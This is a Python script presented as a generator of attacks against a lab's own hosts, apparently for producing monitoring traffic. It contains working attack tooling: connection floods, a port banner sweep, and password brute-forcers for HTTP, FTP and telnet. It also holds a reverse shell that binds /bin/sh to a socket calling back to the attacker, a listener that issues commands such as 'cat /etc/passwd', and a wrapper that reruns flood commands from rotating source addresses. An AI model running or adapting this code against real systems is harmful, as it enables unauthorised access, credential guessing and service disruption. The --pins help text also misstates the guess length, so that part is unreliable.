#!/usr/bin/python3
"""Attacks on the lab's own hosts that no packaged tool makes in the wanted shape or at the wanted rate.

Standard library only. Everything ends after --seconds. What a shell is told to do reads, and changes nothing.
"""

import argparse
import base64
import os
import socket
import subprocess
import threading
import time

# What may have a greeting. Who asks does not know yet what is there: that tells him from monitoring.
PORTS = (21, 22, 23, 25, 53, 80, 110, 111, 139, 143, 389, 443, 445, 465, 587, 631, 873, 993, 995, 1433, 1521, 2121, 2222,
         3306, 3389, 5060, 5432, 5900, 5984, 6379, 8000, 8080, 8443, 9200, 11211, 27017)
TYPED = (b"id\n", b"uname -a\n", b"w\n", b"cat /etc/passwd\n", b"ls -l /etc\n", b"pwd\n",
         b"cat /proc/meminfo\n", b"ls /usr/bin | head -60\n", b"echo done\n")


def beats(options):
    """One beat every 1/rate seconds for --seconds, without drift; a late one follows at once."""
    began = time.monotonic()
    count = 0
    while (due := count / options.rate) < options.seconds:
        if (wait := began + due - time.monotonic()) > 0:
            time.sleep(wait)
        elif -wait > options.seconds:
            return
        yield count
        count += 1


def dial(options, port, timeout=2.0):
    return socket.create_connection((options.target, port), timeout, source_address=(options.source, 0))


def connect(options):
    """Completes handshakes and closes at once."""
    for _ in beats(options):
        try:
            dial(options, options.port).close()
        except OSError:
            pass


def hold(options):
    """Completes handshakes and keeps the connections, saying nothing."""
    held = []
    for _ in beats(options):
        try:
            held.append(dial(options, options.port))
        except OSError:
            pass
        if len(held) > 900:
            held.pop(0).close()


def banners(options):
    """Connects to one service after the other, waits for its greeting, goes."""
    for beat in beats(options):
        try:
            with dial(options, PORTS[beat % len(PORTS)], 0.2) as sock:
                sock.recv(200)
        except OSError:
            pass


def word(options, beat):
    """A wrong password, as long or short as people's are; xtask's list for other tools is made likewise."""
    if options.pins:
        return f"{beat % 1000:03}"
    return ("summer", "sun", "qwertzuiop", "x", "monday-", "correcthorse")[beat % 6] + str(beat)


def guess_http(options):
    """--tries guesses a connection, with --agent bytes of who it says it is."""
    for beat in beats(options):
        try:
            with dial(options, 80) as sock:
                for last in reversed(range(options.tries)):
                    secret = base64.b64encode(f"clerk:{word(options, beat)}{last}".encode()).decode()
                    sock.sendall(f"GET /private/ HTTP/1.1\r\nHost: {options.target}\r\n"
                                 f"Connection: {'keep-alive' if last else 'close'}\r\n"
                                 f"Authorization: Basic {secret}\r\nUser-Agent: {'guess'.ljust(options.agent, 'x')}\r\n\r\n".encode())
                    if last:
                        sock.recv(4096)
                while sock.recv(4096):
                    pass
        except OSError:
            pass


def one_ftp(options, beat):
    try:
        with dial(options, 21, 5.0) as sock:
            sock.recv(400)
            for number in range(options.tries):
                sock.sendall(b"USER clerk\r\n")
                sock.recv(400)
                sock.sendall(f"PASS {word(options, beat)}{number}\r\n".encode())
                if not sock.recv(400).startswith(b"530"):
                    return
    except OSError:
        pass


def guess_ftp(options):
    """--tries guesses a connection; the server takes its time to say no, so several at once."""
    for beat in beats(options):
        threading.Thread(target=one_ftp, args=(options, beat), daemon=True).start()


def plain(data):
    """What of a telnet server's bytes is text: negotiations are three bytes from 255 on."""
    text = bytearray()
    at = 0
    while at < len(data):
        if data[at] == 255:
            at += 3
        else:
            text.append(data[at])
            at += 1
    return bytes(text)


def refuse(sock, data):
    """Declines every option a telnet server asks for or offers."""
    for at in range(len(data) - 2):
        if data[at] == 255 and data[at + 1] in (251, 253):
            sock.sendall(bytes((255, 254 if data[at + 1] == 251 else 252, data[at + 2])))


def expect(sock, word, patience=3.0):
    """Reads until the server said the word; False when it did not."""
    said = b""
    end = time.monotonic() + patience
    sock.settimeout(0.3)
    while time.monotonic() < end:
        try:
            data = sock.recv(4096)
        except TimeoutError:
            continue
        if not data:
            break
        refuse(sock, data)
        said += plain(data)
        if word in said.lower():
            return True
    return False


def one_telnet(options, beat):
    try:
        with dial(options, 23) as sock:
            for number in range(options.tries):
                if expect(sock, b"login:"):
                    sock.sendall(b"clerk\r\n")
                    if expect(sock, b"assword:"):
                        sock.sendall(f"{word(options, beat)}{number}\r\n".encode())
                        expect(sock, b"incorrect", 0.8 if options.tries == 1 else 4.0)
    except OSError:
        pass


def guess_telnet(options):
    """--tries guesses a connection, one connection after the other unless more than one a second are asked for."""
    for beat in beats(options):
        if options.rate > 1:
            threading.Thread(target=one_telnet, args=(options, beat), daemon=True).start()
        else:
            one_telnet(options, beat)


def listen_to(sock, seconds):
    """Discards what comes until nothing does."""
    sock.settimeout(seconds)
    try:
        while sock.recv(65536):
            pass
    except OSError:
        pass


def operate(sock, seconds):
    """Types commands as a person does."""
    end = time.monotonic() + seconds
    number = 0
    while time.monotonic() < end:
        sock.sendall(TYPED[number % len(TYPED)])
        listen_to(sock, 0.3 + 0.13 * (number % 5))
        number += 1


def operator(options):
    """Waits for a shell to call and uses it."""
    with socket.create_server((options.source, options.port)) as server:
        server.settimeout(options.seconds)
        try:
            sock, _ = server.accept()
            with sock:
                operate(sock, options.seconds - 1.0)
        except OSError:
            pass


def call_back(options):
    """Runs on the victim: gives the attacker a shell."""
    end = time.monotonic() + options.seconds
    while time.monotonic() < end:
        try:
            sock = socket.create_connection((options.source, options.port), 1)
        except OSError:
            time.sleep(0.2)
            continue
        sock.settimeout(None)
        with sock, subprocess.Popen(["/bin/sh", "-i"], stdin=sock, stdout=sock, stderr=sock,
                                    cwd="/", env={"PATH": os.defpath}) as shell:
            try:
                shell.wait(end - time.monotonic())
            except subprocess.TimeoutExpired:
                shell.kill()
        return


def telnet_exploit(options):
    """Logs in, uploads as one types a file into a terminal, and goes on as somebody else."""
    end = time.monotonic() + options.seconds
    with dial(options, 23) as sock:
        if expect(sock, b"login:"):
            sock.sendall(b"clerk\r\n")
        if expect(sock, b"assword:"):
            sock.sendall(b"lantern\r\n")
        expect(sock, b"$", 2.0)
        sock.sendall(b"cat > /dev/null << 'EOF'\r\n")
        for _ in range(120):
            sock.sendall(base64.b64encode(os.urandom(45)) + b"\r\n")
            time.sleep(0.005)
        sock.sendall(b"EOF\r\n")
        listen_to(sock, 0.5)
        operate(sock, end - time.monotonic() - 0.5)


def starts(options):
    """Runs the command for --burst seconds, again and again, each time from another address, the word SOURCE in it."""
    for beat in beats(options):
        source = f"{options.source}.{beat + 1}"
        words = [word.replace("SOURCE", source) for word in options.command]
        with subprocess.Popen(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as flood:
            try:
                flood.wait(options.burst)
            except subprocess.TimeoutExpired:
                flood.kill()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    commands = parser.add_subparsers(required=True)
    for call in (connect, hold, banners, guess_http, guess_ftp, guess_telnet, telnet_exploit,
                 operator, call_back, starts):
        command = commands.add_parser(call.__name__.replace("_", "-"))
        command.set_defaults(call=call)
        command.add_argument("source", help="the attacker's address; of starts, the first three octets")
        if call is starts:
            command.add_argument("--burst", type=float, default=0.4, help="seconds")
            command.add_argument("command", nargs="+", metavar="-- COMMAND")
        elif call not in (operator, call_back):
            command.add_argument("target")
        command.add_argument("--seconds", type=float, default=5)
        command.add_argument("--rate", type=float, default=1, help="beats a second")
        command.add_argument("--port", type=int, default=80)
        command.add_argument("--tries", type=int, default=1, help="guesses a connection")
        command.add_argument("--agent", type=int, default=5, help="bytes")
        command.add_argument("--pins", action="store_true", help="guesses of four digits")
    options = parser.parse_args()
    options.call(options)


if __name__ == "__main__":
    main()
